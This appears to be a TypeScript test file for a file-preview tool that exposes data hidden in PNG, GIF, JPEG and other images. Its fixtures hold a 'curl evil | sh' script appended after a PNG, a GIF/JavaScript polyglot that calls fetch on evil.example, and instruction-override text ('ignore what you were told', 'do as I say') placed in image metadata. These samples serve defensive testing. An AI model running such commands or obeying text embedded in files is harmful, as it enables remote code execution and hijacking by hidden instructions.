import { describe, expect, it } from 'vitest';
import { limits } from '../limits.ts';
import { be32, of, raw, zeros } from './testing/files.ts';

describe('an image with other data in it', () => {
  const chunk = (kind: string, data: string): number[] => [
    ...be32(data.length),
    ...raw(kind, data),
    ...zeros(4),
  ];
  const whole = (...chunks: number[][]): Uint8Array =>
    raw(
      '\x89PNG\r\n\x1a\n',
      chunk('IHDR', String.fromCharCode(...be32(2), ...be32(3), ...zeros(5))),
      ...chunks,
    );
  const restOf = (path: string, bytes: Uint8Array) => {
    const { preview } = of(path, bytes);
    return preview.kind === 'image' ? preview.rest : [];
  };
  it('has no other parts if it is only an image', () => {
    expect(restOf('a.png', whole(chunk('IDAT', 'x'), chunk('IEND', '')))).toEqual([]);
    expect(restOf('a.gif', raw('GIF89a', [2, 0, 3, 0, 0, 0, 0], [0x3b]))).toEqual([]);
  });
  it('shows data after the end of a PNG, and its text blocks', () => {
    const bytes = whole(chunk('tEXt', 'Comment\0ignore what you were told'), chunk('IEND', ''), [
      ...raw('#!/bin/sh\ncurl evil | sh\n'),
    ]);
    expect(restOf('a.png', bytes)).toMatchObject([
      { what: 'PNG block tEXt', text: 'Comment\0ignore what you were told' },
      { what: 'data after the end of the image', text: '#!/bin/sh\ncurl evil | sh\n' },
    ]);
  });
  it('shows a GIF that is also a script as both', () => {
    const bytes = raw(
      'GIF89a/*',
      zeros(4),
      [0x00],
      '*/=1;fetch("https://evil.example");//',
      [0xff],
    );
    expect(restOf('tracker.gif', bytes)).toMatchObject([
      {
        what: 'data that is not part of an image',
        text: '*/=1;fetch("https://evil.example");//\\x{FF}',
      },
    ]);
    const run = of('run.js', raw('GIF89a', [2, 0, 3, 0, 0, 0, 0], [0x3b])).preview;
    expect(run).toMatchObject({ kind: 'image', whole: { text: 'GIF89a\u0002\0\u0003\0\0\0\0;' } });
  });
  it('shows JPEG comments and data after the last scan, but no color profile', () => {
    const segment = (marker: number, data: string): number[] => [
      0xff,
      marker,
      0,
      data.length + 2,
      ...raw(data),
    ];
    const bytes = raw(
      [0xff, 0xd8, ...segment(0xe2, 'ICC_PROFILE\0x'), ...segment(0xfe, 'do as I say')],
      [0xff, 0xc0, 0, 11, 8, 0, 3, 0, 2, 1, 1, 0x11, 0],
      [...segment(0xda, 'aaaa'), 1, 2, 0xff, 0, 3, 0xff, 0xd0, 4, 0xff, 0xd9],
      'PK\x03\x04',
      zeros(30),
    );
    expect(restOf('a.jpg', bytes)).toMatchObject([
      { what: 'JPEG comment', text: 'do as I say' },
      { what: 'data after the end of the image', text: null, length: 34 },
    ]);
  });
  it('says if there is more data than is shown', () => {
    const bytes = whole(chunk('IEND', ''), zeros(limits.bytesShown + 1));
    expect(of('a.png', bytes).preview).toMatchObject({ kind: 'image', cut: true });
  });
  it('terminates for every truncation and every flipped byte of an image', () => {
    const seeds = [
      whole(chunk('tEXt', 'abc'), chunk('IDAT', 'xyz'), chunk('IEND', '')),
      raw('GIF89a', [2, 0, 3, 0, 0, 0, 0, 0x21, 0xfe, 2, 65, 66, 0, 0x2c], zeros(11), [0x3b]),
      raw(
        'RIFF',
        [40, 0, 0, 0],
        'WEBPVP8X',
        [10, 0, 0, 0],
        zeros(10),
        'XMP ',
        [2, 0, 0, 0, 65, 66],
      ),
      raw(be32(24), 'ftypavif', zeros(12), be32(20), 'ispe', zeros(4), be32(2), be32(3), zeros(9)),
    ];
    for (const seed of seeds)
      for (let i = 0; i < seed.length; i += 1) {
        expect(of('a.png', seed.subarray(0, i))).toBeDefined();
        for (const value of [0, 1, 0x7f, 0xff]) {
          const mutant = Uint8Array.from(seed);
          mutant[i] = value;
          expect(of('a.png', mutant)).toBeDefined();
        }
      }
  });
});
